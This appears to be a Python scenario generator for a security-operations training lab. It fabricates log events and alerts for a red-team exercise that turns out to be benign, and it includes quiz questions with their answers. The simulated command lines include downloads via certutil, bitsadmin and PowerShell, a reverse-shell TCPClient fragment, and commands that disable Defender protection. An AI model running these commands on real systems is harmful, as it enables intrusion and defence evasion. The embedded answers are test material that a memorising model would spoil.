"""Incident 9. The vulnerability scanner and the red team: everything looks bad, and everything was ordered."""

from __future__ import annotations

from datetime import datetime, timedelta

from pivotlab.scenarios import evidence
from pivotlab.scenarios.company import Device, Person
from pivotlab.scenarios.endpoint import moments
from pivotlab.scenarios.programs import foreign, program
from pivotlab.scenarios.truth import GroundTruth
from pivotlab.scenarios.world import Story, World


def play(world: World) -> GroundTruth:
    """Monday: an announced exercise on two servers, and an authenticated scan of all of them at the same time."""
    with world.story(9, "scanner-and-red-team", "Vulnerability scanner and red team: benign positives") as story:
        world.alerts.name_incident(
            story.key, "Multi-stage incident involving Execution & Lateral movement on multiple endpoints"
        )
        tester = world.company.titled("Security Analyst")[0]
        announced = world.mail.internal(
            world.at("10-30", "15:30", world.company.sites[0]),
            world.company.titled("Security Lead")[0],
            [*world.company.titled("Head of IT"), tester],
            "Exercise on Monday 2 November, 10:00 to 16:00: web and database servers",
        )
        story.note("The exercise is announced, with its window and its targets", announced.rows[0])
        start = world.at("11-02", "10:12", world.company.sites[0])
        web, database = world.company.with_role("web")[0], world.company.with_role("sql")[0]
        jump = world.company.with_role("jump")[0]
        story.involve(user=tester.upn, device=web.name)
        scanner = _scan(world, story, start)
        _web_server(world, story, web, tester, start + timedelta(minutes=35))
        _database(world, story, database, start + timedelta(hours=1, minutes=5))
        _jump_host(world, story, jump, tester, start + timedelta(hours=2))
        _print_server(world, story, start + timedelta(hours=3, minutes=20))
        story.decoy(
            "DeviceNetworkEvents",
            "where RemotePort == 445 | summarize dcount(RemoteIP) by DeviceName | where dcount_RemoteIP > 3",
            f"RemotePort = 445 AND DeviceName <> '{scanner.name}' AND DeviceName NOT LIKE 'ch-jump%'",
            "Backup and management servers reach many servers over the same port.",
        )
        story.decoy(
            "DeviceProcessEvents",
            "where InitiatingProcessFileName =~ 'w3wp.exe'",
            "InitiatingProcessFileName = 'w3wp.exe' AND ProcessCommandLine LIKE '%ping -n 1 ch-sql%'",
            "The portal's own health check starts a shell as well.",
        )
        story.decoy(
            "DeviceProcessEvents",
            "where InitiatingProcessFileName in~ ('sqlservr.exe', 'sqlagent.exe')",
            "InitiatingProcessFileName = 'sqlagent.exe'",
            "The nightly export runs through SQL Server Agent.",
        )
        story.decoy(
            "DeviceNetworkEvents",
            "where ActionType == 'InboundConnectionAccepted'",
            "ActionType = 'InboundConnectionAccepted' AND InitiatingProcessFileName = 'lsass.exe'",
            "Domain controllers accept connections all day.",
        )
        story.ask("Which watchlist names the scanner?", "ApprovedScanners")
        story.ask("What is the scanner's address?", scanner.address)
        story.ask("Which mail proves that the exercise was ordered?", announced.subject)
        story.ask("How would a good analyst classify it?", "informationalExpectedActivity / securityTesting")
        return story.close(
            summary=(
                "An authenticated scan and an announced exercise ran on the same Monday. "
                "Attack techniques were real, the intent was not: the window, the targets, "
                "the tester's account and the scanner's address all match "
                "the announcement and the ApprovedScanners watchlist."
            ),
            verdict="benign",
            classification="informationalExpectedActivity",
            determination="securityTesting",
            severity="medium",
            mitre=["T1046", "T1505.003", "T1059.003", "T1218.005", "T1047", "T1127.001"],
        )


def _scan(world: World, story: Story, when: datetime) -> Device:
    scanner = world.company.with_role("scanner")[0]
    account = world.company.service("svc-vulnscan")
    story.involve(device=scanner.name, user=account.upn)
    process = world.endpoint.start(
        when,
        world.sessions.root("services", scanner, when),
        program("vulnscan.exe"),
        '"C:\\Program Files\\Fabrikam\\VulnScan\\vulnscan.exe" --profile authenticated --targets servers.txt',
    )
    servers = [device for device in world.company.with_role("server") if device is not scanner]
    for i, (tick, server) in enumerate(
        zip(
            moments(when + timedelta(seconds=20), len(servers), timedelta(seconds=9), world.seed, "scan"),
            servers,
            strict=True,
        )
    ):
        for port in (445, 3389):
            touched = world.endpoint.connect(
                tick + timedelta(milliseconds=port), process, server.address, port, server.name
            )
        system = world.sessions.root("kernel", server, tick)
        world.endpoint.connect(
            tick + timedelta(milliseconds=470),
            system,
            scanner.address,
            50_000 + i,
            action="InboundConnectionAccepted",
            local_port=445,
        )
        world.endpoint.logon(
            tick + timedelta(seconds=1), server, None, "Network", source=scanner, succeeded=False, name="administrator"
        )
        world.endpoint.logon(tick + timedelta(seconds=2), server, account, "Network", source=scanner, protocol="NTLM")
        if i == 0:
            story.note("One process on the scanner touches every server on ports 445 and 3389", touched)
    world.alerts.raise_alert(
        "MDE",
        story.key,
        when,
        "Suspicious network scanning activity",
        severity="low",
        category="Discovery",
        techniques=["T1046"],
        last=when + timedelta(minutes=5),
        description="A device connected to many others on the same port in a short time.",
        evidence=[evidence.device(scanner, "source"), evidence.process(process), evidence.user(account)],
    )
    world.alerts.raise_alert(
        "MDI",
        story.key,
        when,
        "Suspected brute-force attack (NTLM)",
        severity="medium",
        category="CredentialAccess",
        techniques=["T1110"],
        last=when + timedelta(minutes=5),
        description="Many failed sign-ins from one device.",
        evidence=[evidence.device(scanner, "source"), evidence.user(account)],
    )
    return scanner


def _web_server(world: World, story: Story, web: Device, tester: Person, when: datetime) -> None:
    endpoint = world.endpoint
    jump = world.company.with_role("jump")[0]
    worker = endpoint.start(
        when - timedelta(minutes=3),
        world.sessions.root("services", web, when),
        program("w3wp.exe"),
        'c:\\windows\\system32\\inetsrv\\w3wp.exe -ap "HarbourPortal"',
    )
    page = foreign("C:\\inetpub\\wwwroot\\portal\\redteam-probe.aspx", f"{world.seed}/probe page")
    planted = endpoint.file(when - timedelta(seconds=20), worker, page)
    story.note("The testers plant a page whose name says what it is", planted)
    for i, command in enumerate(
        (
            "cmd.exe /c whoami",
            "cmd.exe /c ipconfig /all",
            "cmd.exe /c systeminfo",
            f"cmd.exe /c certutil -urlcache -f http://{jump.short.lower()}/tools/rt.exe %temp%\\rt.exe",
        )
    ):
        shell = endpoint.start(when + timedelta(seconds=40 * i), worker, program("cmd.exe"), command)
        tool = command.split()[2] + ".exe"
        endpoint.start(when + timedelta(seconds=40 * i + 1), shell, program(tool), command.removeprefix("cmd.exe /c "))
        if i == 0:
            story.note("A web worker starts a shell that asks who it is", shell.row) if shell.row else None
    client = f"$client = New-Object System.Net.Sockets.TCPClient('{jump.address}',4444)"
    power = endpoint.start(
        when + timedelta(minutes=4),
        worker,
        program("powershell.exe"),
        f'powershell.exe -nop -c "{client};$stream = $client.GetStream()"',
    )
    endpoint.connect(when + timedelta(minutes=4, seconds=2), power, jump.address, 4444, jump.name)
    world.alerts.raise_alert(
        "MDE",
        story.key,
        when,
        "Suspicious process executed by a network service",
        severity="high",
        category="Execution",
        techniques=["T1505.003"],
        last=power.created,
        description="A web server process started a command shell.",
        evidence=[
            evidence.process(power),
            evidence.file(page, web, verdict="suspicious"),
            evidence.device(web),
            evidence.user(tester, verdict="unknown"),
        ],
    )


def _database(world: World, story: Story, database: Device, when: datetime) -> None:
    endpoint = world.endpoint
    jump = world.company.with_role("jump")[0]
    engine = endpoint.start(
        when - timedelta(minutes=9),
        world.sessions.root("services", database, when),
        program("sqlservr.exe"),
        '"C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe" -sMSSQLSERVER',
    )
    for i, command in enumerate(
        (
            "cmd.exe /c whoami /priv",
            "cmd.exe /c netstat -nao",
            f"cmd.exe /c powershell Invoke-WebRequest http://{jump.short.lower()}/tools/rt.exe -OutFile "
            "C:\\Windows\\Temp\\rt.exe",
        )
    ):
        ran = endpoint.start(when + timedelta(seconds=25 * i), engine, program("cmd.exe"), command)
    assert ran.row is not None
    story.note("The database engine starts a shell: xp_cmdshell was on", ran.row)
    story.involve(device=database.name)
    world.alerts.raise_alert(
        "MDE",
        story.key,
        when,
        "Suspicious behavior by sqlservr.exe was observed",
        severity="medium",
        category="Execution",
        techniques=["T1059.003"],
        last=ran.created,
        description="The database engine started a command shell.",
        evidence=[evidence.process(ran), evidence.device(database)],
    )


def _jump_host(world: World, story: Story, jump: Device, tester: Person, when: datetime) -> None:
    endpoint = world.endpoint
    endpoint.logon(when, jump, tester, "RemoteInteractive", source=world.company.device_of(tester))
    services = world.sessions.root("dcom", jump, when)
    provider = endpoint.start(
        when + timedelta(minutes=1),
        services,
        program("WmiPrvSE.exe"),
        "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding",
    )
    built = endpoint.start(
        when + timedelta(minutes=1, seconds=4),
        provider,
        program("MSBuild.exe"),
        "MSBuild.exe C:\\ProgramData\\redteam\\task.csproj",
    )
    story.note("WMI starts MSBuild with a project in ProgramData", built.row) if built.row else None
    story.involve(device=jump.name)
    hta = endpoint.start(
        when + timedelta(minutes=6),
        built,
        program("mshta.exe"),
        'mshta.exe vbscript:Execute("<script>window.close()</script>")',
    )
    ps = endpoint.start(
        when + timedelta(minutes=6, seconds=2),
        hta,
        program("powershell.exe"),
        'powershell.exe -command "Set-MpPreference -EnableControlledFolderAccess Disabled"',
    )
    shell = endpoint.start(
        when + timedelta(minutes=7), ps, program("cmd.exe"), "cmd.exe /c run-checks.cmd", account=tester
    )
    endpoint.start(
        when + timedelta(minutes=7, seconds=1),
        shell,
        program("powershell.exe"),
        'powershell.exe  -command "Set-MpPreference -EnableControlledFolderAccess Disabled"',
    )
    endpoint.start(
        when + timedelta(minutes=7, seconds=5),
        shell,
        program("wscript.exe"),
        "wscript.exe C:\\ProgramData\\redteam\\stolen images evidence.js",
    )
    endpoint.start(
        when + timedelta(minutes=7, seconds=9),
        shell,
        program("cscript.exe"),
        f"cscript.exe C:\\ProgramData\\redteam\\inventory.vbs /shell {jump.address}",
    )
    endpoint.start(
        when + timedelta(minutes=7, seconds=12),
        shell,
        program("bitsadmin.exe"),
        f"bitsadmin /transfer rt http://{jump.short.lower()}/tools/rt.exe C:\\ProgramData\\redteam\\rt.exe",
    )
    endpoint.start(
        when + timedelta(minutes=7, seconds=14),
        shell,
        program("certutil.exe"),
        "certutil -decode C:\\ProgramData\\redteam\\rt.b64 C:\\ProgramData\\redteam\\rt.exe",
    )
    masked = program("certutil.exe").renamed("C:\\ProgramData\\redteam\\checker.exe")
    endpoint.start(
        when + timedelta(minutes=7, seconds=20),
        shell,
        masked,
        "checker.exe -hashfile C:\\ProgramData\\redteam\\rt.exe SHA256",
    )
    key = foreign("C:\\ProgramData\\redteam\\portal.pfx", f"{world.seed}/exported key")
    exported = endpoint.file(when + timedelta(minutes=8), shell, key)
    story.note("A key is exported into the exercise's own folder", exported)
    world.alerts.raise_alert(
        "MDE",
        story.key,
        built.created,
        "Suspicious execution of a developer tool",
        severity="medium",
        category="DefenseEvasion",
        techniques=["T1127.001", "T1047"],
        last=exported.moment,
        description="A build tool was started by WMI with a project outside of any source folder.",
        evidence=[evidence.process(built), evidence.process(hta), evidence.device(jump), evidence.user(tester)],
    )


def _print_server(world: World, story: Story, when: datetime) -> None:
    printer = world.company.with_role("print")[0]
    endpoint = world.endpoint
    spooler = endpoint.start(
        when - timedelta(minutes=30),
        world.sessions.root("services", printer, when),
        program("spoolsv.exe"),
        "C:\\Windows\\System32\\spoolsv.exe",
    )
    library = foreign("C:\\Windows\\System32\\spool\\drivers\\x64\\3\\rtprobe.dll", f"{world.seed}/spooler probe")
    dropped = endpoint.file(when, spooler, library)
    endpoint.image(
        when + timedelta(seconds=2),
        spooler,
        library.renamed("C:\\Windows\\System32\\spool\\drivers\\x64\\3\\Old\\1\\rtprobe.dll"),
    )
    host = endpoint.start(
        when + timedelta(seconds=4), spooler, program("rundll32.exe"), "C:\\Windows\\System32\\rundll32.exe"
    )
    endpoint.start(
        when + timedelta(seconds=6), host, program("cmd.exe"), "cmd.exe /c whoami > C:\\Windows\\Temp\\rt.txt"
    )
    story.note("A harmless driver shows that the print server would load any", dropped)
    story.involve(device=printer.name)
    world.alerts.raise_alert(
        "MDE",
        story.key,
        dropped.moment,
        "Suspicious file dropped by spoolsv.exe",
        severity="medium",
        category="PrivilegeEscalation",
        techniques=["T1068"],
        description="The print spooler wrote a library that it then loaded.",
        evidence=[
            evidence.process(host),
            evidence.file(library, printer, verdict="suspicious"),
            evidence.device(printer),
        ],
    )
